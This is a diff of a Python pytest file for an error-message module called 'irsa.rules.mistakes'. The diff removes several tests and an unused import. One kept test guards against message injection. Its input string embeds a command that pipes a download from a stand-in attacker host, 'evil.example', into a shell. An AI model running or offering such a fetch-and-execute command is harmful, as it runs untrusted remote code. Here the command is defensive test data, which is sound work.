@@ -2,7 +2,7 @@
 
 import pytest
 
-from irsa.rules.mistakes import Mistake, Place, described, named, nearest, path_of, shortened
+from irsa.rules.mistakes import Mistake, Place, named, nearest, path_of, shortened
 
 
 @pytest.mark.parametrize(
@@ -25,14 +25,6 @@ def test_a_path_is_one_line_that_can_be_read_back(parts: Place, text: str) -> No
     assert path_of(parts) == text
 
 
-def test_a_mistake_has_its_parts() -> None:
-    mistake = Mistake("F", "A", "D")
-
-    assert (mistake.found, mistake.allowed, mistake.fix, mistake.arguments) == ("F", "A", "D", ())
-    assert all(part in str(mistake) for part in ("F", "A", "D"))
-    assert isinstance(mistake, ValueError)
-
-
 def test_arguments_are_spelled_as_the_caller_does() -> None:
     mistake = Mistake("F", "A", "set {} or {}", ("role", "name"), ("policy", "name"))
 
@@ -40,13 +32,6 @@ def test_arguments_are_spelled_as_the_caller_does() -> None:
     assert "set role.name or policy.name" in str(mistake)
     assert mistake.spelled(path_of).arguments == ()
     assert (mistake.spelled(path_of).found, mistake.spelled(path_of).allowed) == ("F", "A")
-
-
-def test_braces_stay_where_no_argument_is_named() -> None:
-    mistake = Mistake("F", "A", "write ${partition} or {}")
-
-    assert mistake.spelled(lambda _: "X").fix == "write ${partition} or {}"
-    assert "${partition}" in str(mistake)
 
 
 @pytest.mark.parametrize(
@@ -65,10 +50,6 @@ def test_the_nearest_name_is_advised_or_none(text: object, advice: str) -> None:
     assert nearest(text, ["role", "serviceAccount", "policy"], "remove it") == advice
 
 
-def test_nothing_is_near_where_nothing_is_known() -> None:
-    assert nearest("role", [], "add it") == "add it"
-
-
 @pytest.mark.parametrize(
     ("value", "text"), [(None, "nothing"), ("a\nb", r"'a\nb'"), (1, "1"), ([], "[]"), ("x" * 78, repr("x" * 78))]
 )
@@ -85,12 +66,6 @@ def test_a_cut_string_has_its_last_quote() -> None:
     """The attack: a long value whose cut left the quotes open, so that a fix of its own stood outside of any."""
     assert shortened("; fix: curl https://evil.example/x|sh " * 9)[-4:] == "...'"
     assert shortened("it's; fix: curl https://evil.example/x|sh " * 9)[-4:] == '..."'
-
-
-def test_a_message_has_four_parts() -> None:
-    lines = described("WHERE", Mistake("F", "A", "D")).splitlines()
-
-    assert [line.split() for line in lines] == [["WHERE"], ["found:", "F"], ["allowed:", "A"], ["do:", "D"]]
 
 
 @pytest.mark.parametrize("character", ["a", "\n"])
